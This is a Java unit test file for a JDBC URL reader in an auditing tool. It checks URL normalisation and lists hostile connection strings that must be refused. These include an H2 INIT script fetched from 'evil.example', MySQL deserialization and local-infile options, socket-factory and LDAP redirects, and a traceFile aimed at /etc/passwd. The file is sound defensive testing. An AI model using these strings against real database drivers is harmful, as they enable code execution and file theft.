package io.isaudit.collect.internal.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcAddressReaderTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:postgresql://db.bank.net:5432/idn?sslmode=verify-full"
            + "|postgresql|jdbc:postgresql://db.bank.net:5432/idn?sslmode=verify-full",
        "jdbc:postgresql://[::1]/idn?sslmode=require&amp;currentSchema=wso2"
            + "|postgresql|jdbc:postgresql://[::1]/idn?currentSchema=wso2&sslmode=require",
        "jdbc:mysql://db:3306/idn?useSSL=true|mariadb|jdbc:mariadb://db:3306/idn?useSSL=true",
        "jdbc:sqlserver://db\\prod:1433;databaseName=idn;encrypt=true"
            + "|sqlserver|jdbc:sqlserver://db\\prod:1433;databaseName=idn;encrypt=true",
        "jdbc:oracle:thin:@db:1521:ORCL|oracle|jdbc:oracle:thin:@db:1521:ORCL",
        "jdbc:oracle:thin:@//db:1521/svc|oracle|jdbc:oracle:thin:@//db:1521/svc",
        "jdbc:oracle:thin:@tcps://db:2484/svc|oracle|jdbc:oracle:thin:@tcps://db:2484/svc",
        "jdbc:db2://db:50000/IDN:sslConnection=true;"
            + "|db2|jdbc:db2://db:50000/IDN:sslConnection=true;",
        "jdbc:h2:file:/tmp/copy|h2"
            + "|jdbc:h2:file:/tmp/copy;IFEXISTS=TRUE;ACCESS_MODE_DATA=r;DB_CLOSE_DELAY=0"
      })
  void a_url_is_put_together_again(String url, String scheme, String expected) throws RefusedUrl {
    assertThat(JdbcAddressReader.read(url, false).url(scheme)).isEqualTo(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:./database/X;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:h2:file:/tmp/a;IFEXISTS=TRUE;init=CREATE ALIAS X",
        "jdbc:mysql://db:3306/idn?autoDeserialize=true&queryInterceptors=x.Y",
        "jdbc:mysql://db:3306/idn?allowLoadLocalInfile=true",
        "jdbc:postgresql://db/idn?socketFactory=org.evil.Factory&socketFactoryArg=http://evil",
        "jdbc:postgresql://db/idn?sslfactory=org.springframework.X",
        "jdbc:postgresql://db/idn?PGHOST=evil.example",
        "jdbc:postgresql://db/idn?options=-c%20x",
        "jdbc:postgresql://db,evil.example/idn",
        "jdbc:mysql://address=(host=evil.example)/idn",
        "jdbc:mysql://user:secret@db/idn",
        "jdbc:sqlserver://db;databaseName=idn;serverName=evil.example",
        "jdbc:sqlserver://db;databaseName=idn;failoverPartner=evil.example",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=evil)(PORT=1))(CONNECT_DATA=(SID=x)))",
        "jdbc:oracle:thin:scott/tiger@db:1521:x",
        "jdbc:oracle:thin:@ldap://evil.example/x",
        "jdbc:db2://db:50000/IDN:clientRerouteServerListJNDIName=ldap://evil;",
        "jdbc:db2://db:50000/IDN:traceFile=/etc/passwd;",
        "jdbc:h2:mem:x",
        "jdbc:h2:tcp://evil.example/x",
        "jdbc:postgresql://db:99999/idn",
        "jdbc:p6spy:mysql://db/idn",
        "jdbc:unknown://db/idn",
        "ldap://evil.example",
        ""
      })
  void a_url_that_is_more_than_an_address_is_refused(String url) {
    assertThatThrownBy(() -> JdbcAddressReader.read(url, true))
        .isInstanceOf(RefusedUrl.class)
        .extracting(Throwable::getMessage)
        .asString()
        .doesNotContain("evil", "secret", "tiger");
  }

  @Test
  void a_dangerous_parameter_that_is_off_is_none() throws RefusedUrl {
    String url = "jdbc:mysql://db/idn?autoDeserialize=false&useSSL=true";
    assertThat(JdbcAddressReader.read(url, true).url("mysql"))
        .isEqualTo("jdbc:mysql://db/idn?useSSL=true");
  }

  @Test
  void what_is_merely_not_known_is_left_out_of_a_url_of_a_home() throws RefusedUrl {
    String url = "jdbc:mysql://db/idn?zeroDateTimeBehavior=round&%69nit=x&sslMode=a'b";
    assertThat(JdbcAddressReader.read(url, true).url("mysql")).isEqualTo("jdbc:mysql://db/idn");
  }

  @Test
  void a_person_is_told_which_parameter_is_not_known() {
    assertThatThrownBy(() -> JdbcAddressReader.read("jdbc:mysql://db/idn?zeroDates=round", false))
        .hasMessage("carries a parameter that is not known: zerodates");
  }
}
